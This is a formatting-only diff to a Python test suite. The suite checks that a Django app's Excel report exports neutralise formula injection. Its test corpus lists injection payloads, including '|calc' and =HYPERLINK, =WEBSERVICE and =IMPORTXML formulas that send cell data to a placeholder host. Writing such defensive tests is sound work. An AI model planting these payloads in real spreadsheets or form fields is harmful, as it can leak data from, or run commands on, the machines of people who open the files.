@@ -12,12 +12,37 @@ from python_calamine import CalamineWorkbook
 from impact.exports.report import files
 from tests.crm.factories import OrganisationFactory
 from tests.engagements.factories import EngagementFactory
-from tests.impact.factories import BaselineFactory, IndicatorFactory, MeasurementFactory, MetricFactory, publish_as_read
+from tests.impact.factories import (
+    BaselineFactory,
+    IndicatorFactory,
+    MeasurementFactory,
+    MetricFactory,
+    publish_as_read,
+)
 
 pytestmark = [pytest.mark.large, pytest.mark.one_database, pytest.mark.django_db]
 CORPUS = [
-    *("=1+1", "==1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\ufeff=1+1"),
-    *("＝1+1", "＋1", "－1", "＠SUM(A1)", ";=1+1", '"=1+1"', "'=1+1", "{=1+1}", "%0A=1+1", "|calc"),
+    "=1+1",
+    "==1+1",
+    "+1+1",
+    "-1+1",
+    "@SUM(A1)",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    " =1+1",
+    "\u00a0=1+1",
+    "\ufeff=1+1",
+    "＝1+1",
+    "＋1",
+    "－1",
+    "＠SUM(A1)",
+    ";=1+1",
+    '"=1+1"',
+    "'=1+1",
+    "{=1+1}",
+    "%0A=1+1",
+    "|calc",
     '=HYPERLINK("http://x.example?"&A1;"Click")',
     '=WEBSERVICE("http://x.example/"&A1)',
     '=IMPORTXML("http://x.example","//a")',
@@ -47,10 +72,14 @@ def report_of(member, coordinator):
         engagement = EngagementFactory(
             member=member, title=text, beneficiary=OrganisationFactory(name=f"{text} ", siren=None)
         )
-        indicator = IndicatorFactory(name_fr=text, name_en=text, unit_fr=text[:40], unit_en=text[:40])
+        indicator = IndicatorFactory(
+            name_fr=text, name_en=text, unit_fr=text[:40], unit_en=text[:40]
+        )
         indicator.definition_fr = indicator.definition_en = text
         indicator.save()
-        metric = MetricFactory(engagement=engagement, indicator=indicator, caveat_fr=text, caveat_en=text)
+        metric = MetricFactory(
+            engagement=engagement, indicator=indicator, caveat_fr=text, caveat_en=text
+        )
         BaselineFactory(metric=metric, source=text, note_fr=text, note_en=text)
         MeasurementFactory(metric=metric, source=text, note_fr=text, note_en=text)
         report = publish_as_read(engagement, by=coordinator, today=timezone.localdate())
@@ -62,7 +91,11 @@ def report_of(member, coordinator):
 
 def parts_of(content):
     with ZipFile(BytesIO(content)) as packed:
-        return {name: packed.read(name).decode() for name in packed.namelist() if name.endswith((".xml", ".rels"))}
+        return {
+            name: packed.read(name).decode()
+            for name in packed.namelist()
+            if name.endswith((".xml", ".rels"))
+        }
 
 
 def assert_dead(content):
@@ -71,7 +104,11 @@ def assert_dead(content):
     sheets = "".join(part for name, part in parts.items() if "/worksheets/sheet" in name)
     assert not re.search(r"<f[ >/]|<hyperlink|t=\"str\"", sheets)
     assert "TargetMode" not in "".join(parts.values())
-    assert not [name for name in parts if re.search("external|connections|queryTable|vba", name, re.IGNORECASE)]
+    assert not [
+        name
+        for name in parts
+        if re.search("external|connections|queryTable|vba", name, re.IGNORECASE)
+    ]
 
 
 @pytest.mark.parametrize("text", TEXTS)
@@ -80,7 +117,12 @@ def test_a_report_as_a_workbook(report_of, text):
 
     assert_dead(content)
     book = CalamineWorkbook.from_filelike(BytesIO(content))
-    cells = [cell for name in book.sheet_names for row in book.get_sheet_by_name(name).to_python() for cell in row]
+    cells = [
+        cell
+        for name in book.sheet_names
+        for row in book.get_sheet_by_name(name).to_python()
+        for cell in row
+    ]
     assert sum(bare(cell) == bare(text) for cell in cells) >= 5
 
 
@@ -95,6 +137,8 @@ def test_the_workbook_to_fill(client, coordinator, member, text):
     metric = MetricFactory(engagement__member=member, indicator=indicator)
     client.force_login(coordinator)
 
-    content = client.get(reverse("impact:measurement-template", args=[metric.engagement_id])).content
+    content = client.get(
+        reverse("impact:measurement-template", args=[metric.engagement_id])
+    ).content
 
     assert_dead(content)
